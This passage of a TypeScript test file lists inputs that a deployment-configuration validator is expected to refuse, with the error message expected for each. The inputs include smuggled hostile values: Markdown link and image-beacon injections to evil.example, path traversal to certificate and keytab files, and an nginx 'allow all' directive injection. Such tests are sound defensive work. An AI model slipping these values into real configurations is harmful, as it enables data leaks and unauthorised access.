  ).map(([name, file, key, message]): RefusedCase => ({ family: 'secret', name, file, refused: [`${key}: ${message}`] })),

  // Paths that reach labels, nginx-like text and the impact Markdown: limited like route paths.
  ...(
    [
      ['containerPath with a Markdown link and a mention', mount('cc.kibana', { volume: 'v', containerPath: '/x](https://evil.example/) @all' })],
      ['containerPath with an image beacon', mount('cc.kibana', { volume: 'v', containerPath: '/![b](https://evil.example/b.png)' })],
      ['containerPath with a backtick', mount('cc.kibana', { volume: 'v', containerPath: '/data/`x`' })],
      ['containerPath of 201 characters', mount('cc.kibana', { volume: 'v', containerPath: `/${'a'.repeat(200)}` })],
    ] as const
  ).map(([name, file]): RefusedCase => ({
    family: 'path limits',
    name,
    file,
    refused: [
      'services["cc.kibana"].volumes[0].containerPath: must be an absolute path in the container: "/" then letters, digits and . _ ~ / - (at most 200 characters)',
    ],
  })),
  ...(
    [
      ['unix:// socket path with a Markdown link', 'unix:///var/run/x](https://evil.example/)'],
      ['unix:// socket path with a backtick', 'unix:///var/run/`docker`.sock'],
      ['unix:// socket path of 201 characters', `unix:///${'a'.repeat(201)}`],
    ] as const
  ).map(([name, host]): RefusedCase => ({
    family: 'path limits',
    name,
    file: (e: Env) => (e.servers[0].docker = { host }),
    refused: [
      'servers[0].docker.host: is not a Docker host URL: write "unix:///var/run/docker.sock", "ssh://user@host" or "ssh://user@host:2222", or "tcp://host:2376"',
    ],
  })),

  // Image references: a repository is no free text, and what runs as root on every host is pinned by digest.
  ...(
    [
      ['image with a tag', setService('cc.xuc', { image: 'xivoxc/xuc:2024.05' })],
      ['image in capitals', setService('cc.xuc', { image: 'XivoXC/xuc' })],
      ['image with a Markdown link', setService('cc.xuc', { image: 'xivoxc/xuc](https://evil.example/)' })],
    ] as const
  ).map(([name, file]): RefusedCase => ({
    family: 'image references',
    name,
    file,
    refused: [
      'services["cc.xuc"].image: must be an image repository without tag, e.g. "xivoxc/xuc" or "registry.example.com/xivoxc/xuc" (lowercase letters, digits, ".", "_", "-" and "/"); give the tag in `tag`',
    ],
  })),
  {
    family: 'image references',
    name: 'image of 3,000 characters',
    file: setService('cc.xuc', { image: `xivoxc/${'a'.repeat(2993)}` }),
    refused: ['services["cc.xuc"].image: is longer than 255 characters, the longest Docker repository name'],
  },
  {
    family: 'image references',
    name: 'helper image by a floating tag',
    file: (e: Env) => (e.helperImage = 'busybox:stable'),
    refused: [
      "helperImage: is not pinned by digest: a tag can be moved to other content, which would then run as root on every host; write <name>[:<tag>]@sha256:<digest> (`docker inspect --format '{{index .RepoDigests 0}}' <image>` on a host that pulled it gives it)",
    ],
  },
  {
    family: 'image references',
    name: 'helper image with a short digest',
    file: (e: Env) => (e.helperImage = 'busybox@sha256:bdf57e528e45'),
    refused: ['helperImage: must be a Docker image reference pinned by digest: <name>[:<tag>]@sha256:<64 lowercase hexadecimal digits>'],
  },
  {
    family: 'image references',
    name: 'helper image of 3,000 characters',
    file: (e: Env) => (e.helperImage = `${'a'.repeat(2929)}@sha256:${'0'.repeat(64)}`),
    refused: ['helperImage: is longer than 456 characters, the longest Docker image reference'],
  },

  // Messages quote at most MAX_ECHO characters of a value: a long key is cut, never printed whole.
  {
    family: 'echo limits',
    name: 'unknown service id of 1,000 characters',
    file: setService('x'.repeat(1000), { enabled: false }),
    refused: [
      `services["${'x'.repeat(40)}…"]: "${'x'.repeat(40)}… (1000 characters)" is not a catalogue service: write "<role>.<service>" as listed by docs/environment.md (e.g. "cc.xuc")`,
    ],
  },
  {
    family: 'echo limits',
    name: 'unknown port name of 1,000 characters',
    file: setService('cc.xuc', { ports: { ['p'.repeat(1000)]: 8090 } }),
    refused: [`services["cc.xuc"].ports["${'p'.repeat(40)}…"]: "cc.xuc" has no port named "${'p'.repeat(40)}… (1000 characters)"; its ports: http`],
  },
  {
    family: 'echo limits',
    name: 'server service of 1,000 characters',
    file: (e: Env) => (e.servers[0].services = ['s'.repeat(1000)]),
    refused: [
      `servers[0].services[0]: "${'s'.repeat(40)}… (1000 characters)" is not a known service; services of this server's roles: xivo.configmgt`,
    ],
  },

  // 7. Composed variables.
  ...(
    [
      ['_JAVA_OPTIONS on xuc', 'cc.xuc', '_JAVA_OPTIONS'],
      ['JAVA_TOOL_OPTIONS on xuc', 'cc.xuc', 'JAVA_TOOL_OPTIONS'],
      ['JDK_JAVA_OPTIONS on the UC-Addon xuc', 'ucaddon.xuc', 'JDK_JAVA_OPTIONS'],
      ['XUC_HOST on xucmgt', 'cc.xucmgt', 'XUC_HOST'],
      ['XUC_HOST on xuc, as on xucmgt', 'cc.xuc', 'XUC_HOST'],
      ['XUC_HOST on the UC-Addon xuc', 'ucaddon.xuc', 'XUC_HOST'],
      ['USE_SSO on xuc', 'cc.xuc', 'USE_SSO'],
      ['JAVA_OPTS on xuc', 'cc.xuc', 'JAVA_OPTS'],
    ] as const
  ).map(([name, id, variable]): RefusedCase => ({
    family: 'composed variable',
    name,
    file: (e: Env) => {
      if (id.startsWith('ucaddon')) e.servers[1].roles = ['ucaddon'];
      if (id.startsWith('ucaddon')) e.publicNames = { xivoHost: e.publicNames.xivoHost, ucAddonHost: 'uc.test.example.com' };
      setEnv(id, { [variable]: '-Dx=1' })(e);
    },
    refused: [`services["${id}"].env.${variable}: ${COMPOSED}`],
  })),

  // 10. Files named by the environment file.
  ...(
    [
      ['CA from /dev/zero', withAuth({ ldap: { ...LDAP, caFile: '/dev/zero' } }), 'auth.ldap.caFile', outside('/dev/zero')],
      ['CA a FIFO', withAuth({ ldap: { ...LDAP, caFile: 'ca.fifo' } }), 'auth.ldap.caFile', '"ca.fifo" is a FIFO: give the path of a regular file'],
      [
        'CA a directory',
        withAuth({ ldap: { ...LDAP, caFile: 'certs.d' } }),
        'auth.ldap.caFile',
        '"certs.d" is a directory: give the path of a regular file',
      ],
      [
        'CA too big',
        withAuth({ ldap: { ...LDAP, caFile: 'big.pem' } }),
        'auth.ldap.caFile',
        '"big.pem" is 1048577 bytes, more than the 1024 KiB such a file can hold: give the right file',
      ],
      [
        'CA outside by ..',
        withAuth({ ldap: { ...LDAP, caFile: '../../../etc/ssl/certs/ca-certificates.crt' } }),
        'auth.ldap.caFile',
        outside('../../../etc/ssl/certs/ca-certificates.crt'),
      ],
      ['CA through a symbolic link', withAuth({ ldap: { ...LDAP, caFile: 'passwd.pem' } }), 'auth.ldap.caFile', outside('passwd.pem')],
      [
        'keytab a directory',
        withAuth({ kerberos: { ...KERBEROS, keytabFile: 'certs.d' } }),
        'auth.kerberos.keytabFile',
        '"certs.d" is a directory: give the path of a regular file',
      ],
      [
        'keytab too big',
        withAuth({ kerberos: { ...KERBEROS, keytabFile: 'big.keytab' } }),
        'auth.kerberos.keytabFile',
        '"big.keytab" is 65537 bytes, more than the 64 KiB such a file can hold: give the right file',
      ],
      [
        'keytab outside',
        withAuth({ kerberos: { ...KERBEROS, keytabFile: '/etc/krb5.keytab' } }),
        'auth.kerberos.keytabFile',
        outside('/etc/krb5.keytab'),
      ],
      ['keytab with a quote', withAuth({ kerberos: { ...KERBEROS, keytabFile: 'xuc".keytab' } }), 'auth.kerberos.keytabFile', PLAIN_PATH],
      [
        'keytab with a template',
        withAuth({ kerberos: { ...KERBEROS, keytabFile: '${path.root}/x.keytab' } }),
        'auth.kerberos.keytabFile',
        PLAIN_PATH,
      ],
      ['keytab with a backslash', withAuth({ kerberos: { ...KERBEROS, keytabFile: 'a\\b.keytab' } }), 'auth.kerberos.keytabFile', PLAIN_PATH],
      [
        'provided key a FIFO',
        (e: Env) => (e.tls = { mode: 'provided', provided: { certFile: 'missing.crt', keyFile: 'ca.fifo' } }),
        'tls.provided.keyFile',
        '"ca.fifo" is a FIFO: give the path of a regular file',
      ],
      [
        'provided chain outside',
        (e: Env) =>
          (e.tls = { mode: 'provided', provided: { certFile: 'missing.crt', keyFile: 'missing.key', chainFiles: ['/etc/ssl/certs/root.pem'] } }),
        'tls.provided.chainFiles[0]',
        outside('/etc/ssl/certs/root.pem'),
      ],
      [
        'Docker TLS CA a FIFO',
        (e: Env) => (e.servers[0].docker = { host: 'tcp://10.0.0.10:2376', tls: { caFile: 'ca.fifo', certFile: 'big.pem', keyFile: 'missing.key' } }),
        'servers[0].docker.tls',
        '',
      ],
      [
        'local state outside',
        (e: Env) => (e.backend = { type: 'local', directory: '../../../var/tmp/state' }),
        'backend.directory',
        outside('../../../var/tmp/state'),
      ],
    ] as const
  ).map(([name, file, key, message]): RefusedCase => ({
    family: 'file',
    name,
    file,
    refused:
      key === 'servers[0].docker.tls'
        ? [
            'servers[0].docker.tls.caFile: "ca.fifo" is a FIFO: give the path of a regular file',
            'servers[0].docker.tls.certFile: "big.pem" is 1048577 bytes, more than the 1024 KiB such a file can hold: give the right file',
            'servers[0].docker.tls.keyFile: file "missing.key" does not exist (paths are relative to the environment file)',
          ]
        : [`${key}: ${message}`],
  })),

  // 11. One Docker engine, two spellings.
  ...(
    [
      ['users differ', 'ssh://deploy@10.0.0.10', 'ssh://root@10.0.0.10:22'],
      ['host case differs', 'ssh://deploy@PBX.example.com', 'ssh://deploy@pbx.example.com'],
      ['/var/run and /run', 'unix:///var/run/docker.sock', 'unix:///run/docker.sock'],
    ] as const
  ).map(([name, first, second]): RefusedCase => ({
    family: 'Docker host',
    name,
    file: (e: Env) => {
      e.servers[0].docker.host = first;
      e.servers[1].docker.host = second;
    },
    // Only the same engine as the PBX's has XiVO's own nginx on port 80.
    refused: [
      `services["cc.nginx"].ports: port 80/tcp on Docker host ${second} is used by XiVO web interface (nginx package): publish cc.nginx (port "http") on another host port`,
    ],
  })),

  // 12. Edge settings.
  ...(
    [
      ['exempt network out of range', { exemptNetworks: ['999.1.1.1/99'] }, 'edge.exemptNetworks[0]'],
      ['exempt prefix too long', { exemptNetworks: ['10.0.0.0/33'] }, 'edge.exemptNetworks[0]'],
      ['exempt address without prefix', { exemptNetworks: ['10.0.0.1'] }, 'edge.exemptNetworks[0]'],
      ['exempt IPv6 prefix too long', { exemptNetworks: ['fd00::/200'] }, 'edge.exemptNetworks[0]'],
      ['exempt nginx directive', { exemptNetworks: ['10.0.0.0/8; allow all'] }, 'edge.exemptNetworks[0]'],
    ] as const
  ).map(([name, edge, key]): RefusedCase => ({
    family: 'edge',
    name,
    file: withEdge(edge),
    refused: [`${key}: must be an IPv4 or IPv6 network in CIDR form, e.g. "10.0.0.0/8" or "fd00::/8"`],
  })),
  ...(
    [
      ['public name in upper case', 'CC.TEST.EXAMPLE.COM'],
      ['public name mixed case', 'Pbx.Test.Example.Com'],
    ] as const
  ).map(([name, publicName]): RefusedCase => ({
    family: 'edge',
    name,
    file: withEdge({ publicName }),
    refused: [
      `edge.publicName: "${publicName}" is an internal name (a public name or a server): the edge's public name must differ so that internal names stay hidden (reverse-proxy guidance for agent browsers), e.g. "rpx-cc.example.com"`,
    ],
  })),
];
